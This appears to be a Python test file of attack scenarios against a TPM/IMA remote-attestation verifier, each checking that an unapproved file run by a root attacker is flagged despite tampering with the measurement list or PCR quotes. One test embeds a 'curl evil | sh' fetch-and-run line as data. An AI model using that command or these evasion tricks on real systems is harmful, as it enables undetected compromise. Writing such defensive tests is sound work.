"""A file that nobody approved runs, and the list is bent so that it looks approved."""

import hashlib
from dataclasses import replace

from cryptography.hazmat.primitives.asymmetric.ec import SECP256R1, generate_private_key

from schemas.hashes import SHA1, SHA256
from schemas.messages.evidence import LogIncrement
from schemas.reasons import Reason
from schemas.tpm.pcr import PcrBankSelection, PcrSelection, parse_selection_text
from tests.attacks.catalogue import Attacker, Kind
from tests.attacks.hand_made import cel_record, listed, push_of, template_digest
from tests.attacks.scene import Scene
from tests.attacks.seen import Seen, of_state, of_step
from tests.builders.file_signing import file_key, sign_file
from tests.builders.log_bytes import agile_event, ima_ng, ima_record, measured, spec_id_record
from tests.worlds.device import make_references, make_trust
from tests.worlds.step_bench import Bench
from verifier_worker.core.policy.policy_file import LogsTable

RUN = Kind(by=Attacker.ROOT, goal="run a file that nobody approved, and be affirmed")
BAD = "contraindicated"


@RUN.attack(BAD, code=Reason.FILE_UNEXPECTED)
def openly(scene: Scene) -> Seen:
    """It runs from /tmp, and is listed."""
    return of_state(scene.bad_bench())


@RUN.attack(BAD, code=Reason.FILE_UNEXPECTED)
def under_a_good_path(scene: Scene) -> Seen:
    """It runs from the path of an approved program."""
    bench = scene.bench()
    bench.device.run(b"/usr/bin/true", b"evil")
    return of_step(bench.take(bench.device.push()))


@RUN.attack("refused", code=Reason.LOG_REPLAY_MISMATCH)
def left_out_of_the_list(scene: Scene) -> Seen:
    """Its entry is left out of the list."""
    bench = scene.bench()
    bench.device.run(b"/tmp/evil", b"evil")
    bench.device.ima_list.pop()
    return of_step(bench.take(bench.device.push()))


@RUN.attack("refused", code=Reason.LOG_REPLAY_MISMATCH)
def exchanged_in_the_list(scene: Scene) -> Seen:
    """Its entry is exchanged for one of an approved file."""
    bench = scene.bench()
    bench.device.run(b"/tmp/evil", b"evil")
    bench.device.ima_list[-1] = ima_ng(b"/usr/bin/true", b"true")
    return of_step(bench.take(bench.device.push()))


@RUN.attack("none", code=Reason.SEQUENCE_GAP)
def left_out_and_honest_afterwards(scene: Scene) -> Seen:
    """Its entry is left out, the push is refused; later pushes hide nothing more, and leave it out too."""
    bench = scene.bench()
    bench.device.run(b"/tmp/evil", b"evil")
    hidden = bench.device.ima_list.pop()
    for _ in range(4):
        bench.device.run(b"/usr/bin/true", b"true")
        bench.take(bench.device.push())
    assert hidden not in bench.device.ima_list
    return of_state(bench)


@RUN.attack("none", BAD, code=Reason.LOG_INCOMPLETE)
def always_promised(scene: Scene) -> Seen:
    """Its entry is promised for the next push, for ever."""
    bench = scene.bench()
    bench.device.run(b"/tmp/evil", b"evil")
    for _ in range(10):
        promise = {"ima": LogIncrement(records=b"", total=1_000_000)}
        bench.take(replace(bench.device.push(limits={"ima": 0}), unsigned_increments=promise))
    return of_state(bench)


@RUN.attack(BAD, code=Reason.FILE_UNEXPECTED)
def under_a_narrower_selection(scene: Scene) -> Seen:
    """The push that shows it leaves PCR 10 out of the quote; the next one is whole again, from the next entry on."""
    bench = scene.bench()
    whole = bench.device.selection
    bench.device.run(b"/tmp/evil", b"evil")
    bench.device.selection = parse_selection_text("sha256:0-9")
    bench.take(bench.device.push())
    bench.device.selection = whole
    asked = bench.take(bench.device.push()).solicit
    assert asked is not None
    bench.device.sent.update(asked.logs)
    bench.device.previous = None
    return of_step(bench.take(bench.device.push()))


@RUN.attack("none", code=Reason.PCR_NOT_QUOTED)
def pcr_10_never_quoted(scene: Scene) -> Seen:
    """No quote ever covers PCR 10, and no list is sent."""
    bench = Bench()
    bench.device.selection = parse_selection_text("sha256:0-9")
    bench.device.run(b"/tmp/evil", b"evil")
    return of_step(bench.take(bench.device.push()))


@RUN.attack("none", code=Reason.BOOT_AGGREGATE_UNVERIFIED)
def called_boot_aggregate(scene: Scene) -> Seen:
    """A script of 320 bytes is called boot_aggregate; its bytes are sent as the PCR values that it aggregates."""
    bench = Bench(policy_changes={"pcrs": "sha256:10", "logs": LogsTable(ima=(10,))})
    device = bench.device
    device.selection = parse_selection_text("sha256:10")
    references = make_references(device, registers={})
    bench.trust = make_trust(device, handles=(bench.handle,), policy=bench.policy, references=(references,))
    script = b"#!/bin/sh\ncurl evil | sh\n".ljust(320, b"#")
    device.ima_list, device.pcrs[10] = [], bytes(32)
    device.measure_record(ima_record(b"ima-ng", b"sha256:\0" + hashlib.sha256(script).digest(), b"boot_aggregate\0"))
    values = {SHA256: {index: script[32 * index : 32 * index + 32] for index in range(10)}}
    first = of_step(bench.take(push_of(device, {"ima": listed(*device.ima_list)}, values)))
    assert first.verdict == "refused"
    return of_step(bench.take(push_of(device, {"ima": listed(*device.ima_list)}, {})))


@RUN.attack(BAD)
def second_boot_aggregate(scene: Scene) -> Seen:
    """It is called boot_aggregate, and is listed after the true one."""
    bench = scene.bench()
    digest = hashlib.sha256(b"evil").digest()
    bench.device.measure_record(ima_record(b"ima-ng", b"sha256:\0" + digest, b"boot_aggregate\0"))
    return of_step(bench.take(bench.device.push()))


@RUN.attack(BAD, code=Reason.FILE_UNEXPECTED)
def signed_by_a_key_of_his_own(scene: Scene) -> Seen:
    """It carries an IMA signature by a key that no reference value lists."""
    bench = scene.bench()
    listed_key, own = generate_private_key(SECP256R1()), generate_private_key(SECP256R1())
    references = make_references(bench.device, keys=(file_key(listed_key),))
    bench.trust = make_trust(bench.device, handles=(bench.handle,), policy=bench.policy, references=(references,))
    digest = hashlib.sha256(b"evil").digest()
    signature = sign_file(own, digest, key_id=file_key(listed_key).id)
    bench.device.measure_record(ima_record(b"ima-sig", b"sha256:\0" + digest, b"/opt/tool\0", signature))
    bench.device.sent, bench.device.previous = {}, None
    return of_step(bench.take(bench.device.push()))


@RUN.attack(BAD, code=Reason.FILE_UNEXPECTED)
def signature_of_another_file(scene: Scene) -> Seen:
    """It carries the true signature of another file, by a listed key."""
    bench = scene.bench()
    key = generate_private_key(SECP256R1())
    references = make_references(bench.device, keys=(file_key(key),))
    bench.trust = make_trust(bench.device, handles=(bench.handle,), policy=bench.policy, references=(references,))
    other = sign_file(key, hashlib.sha256(b"a good tool").digest())
    digest = hashlib.sha256(b"evil").digest()
    bench.device.measure_record(ima_record(b"ima-sig", b"sha256:\0" + digest, b"/opt/tool\0", other))
    bench.device.sent, bench.device.previous = {}, None
    return of_step(bench.take(bench.device.push()))


@RUN.attack("none", code=Reason.LOG_MISSING)
def passed_off_as_firmware(scene: Scene) -> Seen:
    """The IMA list is sent as boot events of PCR 10, which name no file."""
    bench = Bench()
    device = bench.device
    device.run(b"/tmp/evil", b"evil")
    events = [agile_event(10, 4, {SHA256.tpm_id: template_digest(each)}, b"") for each in device.ima_list]
    boot = listed(*device.boot_log, *events)
    return of_step(bench.take(push_of(device, {"tcg2": boot}, {SHA256: {8: bytes(32), 9: bytes(32)}})))


@RUN.attack("none", code=Reason.LOG_MISSING)
def listed_in_a_log_of_his_own(scene: Scene) -> Seen:
    """It is shown as an entry of a CEL log that no policy knows; the rest of the list is sent as usual."""
    bench = Bench()
    device = bench.device
    device.run(b"/tmp/evil", b"evil")
    hidden = [template_digest(each) for each in device.ima_list]
    device.run(b"/usr/bin/true", b"true")
    device.selection = PcrSelection(banks=(PcrBankSelection(algorithm=SHA1, indices=()), *device.selection.banks))
    device.cel_logs["cel/x"] = [cel_record(number, 10, (SHA256, each)) for number, each in enumerate(hidden)]
    device.ima_list = device.ima_list[2:]
    device.boot_log = [spec_id_record({SHA1.tpm_id: 20, SHA256.tpm_id: 32})]
    device.boot_log += [measured(index, b"firmware %d" % index) for index in range(8)]
    return of_step(bench.take(device.push()))


@RUN.attack("none", code=Reason.LOG_MISSING)
def measured_into_another_pcr(scene: Scene) -> Seen:
    """IMA's own policy sends measurements to PCR 11 (its option pcr=), which is not quoted; PCR 10 stays empty."""
    bench = Bench()
    device = bench.device
    device.ima_list, device.pcrs[10] = [], bytes(32)
    record = ima_ng(b"/tmp/evil", b"evil", pcr_index=11)
    device.ima_list.append(record)
    device.extend(11, template_digest(record))
    return of_step(bench.take(device.push()))


@RUN.attack("warning", code=Reason.FILE_MEASUREMENT_VIOLATED)
def written_while_measured(scene: Scene) -> Seen:
    """A good file is written while IMA measures it, so that another content runs than was hashed."""
    bench = scene.bench()
    record = ima_record(b"ima-ng", b"sha256:\0" + bytes(32), b"/usr/bin/true\0", template_hash=bytes(20))
    bench.device.ima_list.append(record)
    bench.device.extend(10, b"\xff" * 32)
    return of_step(bench.take(bench.device.push()))


@RUN.attack(BAD, code=Reason.FILE_UNEXPECTED)
def digest_of_another_algorithm(scene: Scene) -> Seen:
    """Its entry carries an approved SHA-256 digest's first 20 bytes, labelled sha1."""
    bench = scene.bench()
    short = hashlib.sha256(b"true").digest()[:20]
    bench.device.measure_record(ima_record(b"ima-ng", b"sha1:\0" + short, b"/usr/bin/true\0"))
    return of_step(bench.take(bench.device.push()))


@RUN.attack(BAD, "refused")
def two_digests_in_one_field(scene: Scene) -> Seen:
    """Its entry's digest field holds its own digest behind an approved one."""
    bench = scene.bench()
    both = hashlib.sha256(b"true").digest() + hashlib.sha256(b"evil").digest()
    bench.device.measure_record(ima_record(b"ima-ng", b"sha256:\0" + both, b"/usr/bin/true\0"))
    return of_step(bench.take(bench.device.push()))
